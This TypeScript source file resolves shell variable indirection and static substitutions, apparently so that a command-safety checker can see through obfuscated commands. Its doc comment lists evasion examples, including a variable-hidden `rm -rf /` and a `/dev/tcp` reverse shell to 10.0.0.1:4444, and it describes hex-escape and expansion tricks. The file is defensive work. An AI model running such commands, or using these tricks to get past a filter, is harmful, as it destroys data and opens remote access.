import { decodeAnsiC } from './decode-ansi-c';

/**
 * Cheap variable indirection within one command line: `x=rm; $x -rf /`,
 * `t=/dev/tcp; bash -i >& $t/10.0.0.1/4444`, `${s}sh`, and the program located by a
 * substitution, `$(which nc)`, `` `command -v python3` `` (also when assigned:
 * `PY=$(which python3); $PY`). Only static values are
 * remembered (no `$(...)`, backticks or other variables in the value), at most
 * {@link MAX_VARIABLES} names of at most {@link MAX_VALUE} characters each, so this
 * stays linear and bounded. Unknown variables stay literal, as before.
 *
 * Results that are static whatever the environment are also resolved: a substitution
 * that only echoes one literal word, `$(echo rm)`, `` `printf rm` ``,
 * `$(printf '\x72\x6d')`; and parameter expansions with a default or alternative,
 * `${x:-rm}`, `${x-rm}`, `${x:=rm}`, `${x:+alt}` (a name not assigned on the line counts
 * as unset), substrings and case changes of known values, `${x:1:2}`, `${x,,}`, `${x^^}`.
 * Anything else (`${PATH:0:1}`, `$(date)`) stays literal.
 */
export const MAX_VARIABLES = 64;
export const MAX_VALUE = 256;

const NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;
const REFERENCE = /\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)/g;
const LOCATOR =
  /^(?:\$\(\s*|`\s*)(?:which|command\s+-v|type\s+-P|type\s+-p)\s+([A-Za-z0-9_.+-]{1,64})\s*(?:\)|`)$/;
/**
 * `$(echo WORD)` or `` `printf WORD` `` with one literal word, bare or quoted (one
 * option allowed: `-n`, `-e`, `--`, `%s`). Groups: program and the word's three
 * spellings, for `$(...)` then for backticks. Each part is a different character class,
 * so matching stays linear.
 */
const STATIC_SUBSTITUTION =
  /\$\(\s*(echo|printf)(?:\s+(?:-[neE]+|--|%s))?\s+(?:'([^'\s]{1,256})'|"([^"\s$`\\]{1,256})"|([^\s'"$`\\()|;&<>]{1,256}))\s*\)|`\s*(echo|printf)(?:\s+(?:-[neE]+|--|%s))?\s+(?:'([^'\s`]{1,256})'|"([^"\s$`\\]{1,256})"|([^\s'"$`\\()|;&<>]{1,256}))\s*`/g;
/** `${NAME<op>word}` (`:-` `-` `:=` `=` `:+` `+`), `${NAME:offset[:length]}`, `${NAME,,}`, `${NAME^^}`. */
const PARAMETER_EXPANSION =
  /\$\{([A-Za-z_][A-Za-z0-9_]*)(?:(:?[-=+])([^{}$`'"\\]{0,256})|:([0-9]{1,4})(?::([0-9]{1,4}))?|(,,|\^\^))\}/g;

export class VariableScope {
  // Created on the first assignment: most command lines assign nothing, and the parser
  // makes one scope per line.
  private values: Map<string, string> | undefined;

  /** Records `NAME=value` words (assignments, or `export NAME=value` arguments). */
  assign(words: readonly string[]): void {
    for (const word of words) {
      const eq = word.indexOf('=');
      if (eq <= 0) continue;
      const name = word.slice(0, eq);
      const value = word.slice(eq + 1);
      if (!NAME.test(name)) continue;
      const values = (this.values ??= new Map());
      if (value.length > MAX_VALUE || /[$`]/.test(value)) {
        values.delete(name);
        continue;
      }
      if (!values.has(name) && values.size >= MAX_VARIABLES) continue;
      values.set(name, value);
    }
  }

  /** The word with static substitutions, expansions and known `$NAME` / `${NAME}` replaced. */
  resolve(word: string): string {
    const backtick = word.includes('`');
    if (!backtick && !word.includes('$')) return word;
    const located = LOCATOR.exec(word);
    if (located?.[1] !== undefined) return located[1];
    // `PY=$(which python3)`: the assignment keeps the located name, so `$PY` resolves.
    const eq = word.indexOf('=');
    if (eq > 0 && NAME.test(word.slice(0, eq))) {
      const assigned = LOCATOR.exec(word.slice(eq + 1));
      if (assigned?.[1] !== undefined) return `${word.slice(0, eq)}=${assigned[1]}`;
    }
    let resolved = word;
    if (backtick || resolved.includes('$('))
      resolved = resolved.replace(STATIC_SUBSTITUTION, staticOutput);
    if (resolved.includes('${'))
      resolved = resolved.replace(PARAMETER_EXPANSION, this.expandParameter);
    const values = this.values;
    if (values === undefined || values.size === 0 || !resolved.includes('$')) return resolved;
    return resolved.replace(
      REFERENCE,
      (whole: string, braced: string | undefined, bare: string | undefined) =>
        values.get(braced ?? bare ?? '') ?? whole,
    );
  }

  private readonly expandParameter = (
    whole: string,
    name: string,
    op: string | undefined,
    operand: string | undefined,
    offset: string | undefined,
    length: string | undefined,
    caseChange: string | undefined,
  ): string => {
    const value = this.values?.get(name);
    if (op !== undefined) {
      const set = value !== undefined && (op[0] !== ':' || value !== '');
      const use = op.endsWith('+') ? set : !set;
      return use ? (operand ?? '') : (value ?? '');
    }
    if (value === undefined) return whole;
    if (offset !== undefined) {
      const from = Number(offset);
      return length === undefined ? value.slice(from) : value.slice(from, from + Number(length));
    }
    return caseChange === '^^' ? value.toUpperCase() : value.toLowerCase();
  };
}

/** The replacement of a STATIC_SUBSTITUTION match: the word echoed, printf escapes decoded. */
function staticOutput(whole: string, ...groups: (string | undefined)[]): string {
  const program = groups[0] ?? groups[4];
  const text = groups[1] ?? groups[2] ?? groups[3] ?? groups[5] ?? groups[6] ?? groups[7] ?? '';
  const output = program === 'printf' ? decodeAnsiC(text).replace(/%%/g, '%') : text;
  // Several words (or a printf conversion) would need field splitting: leave it literal.
  return /[\s%]/.test(output) ? whole : output;
}
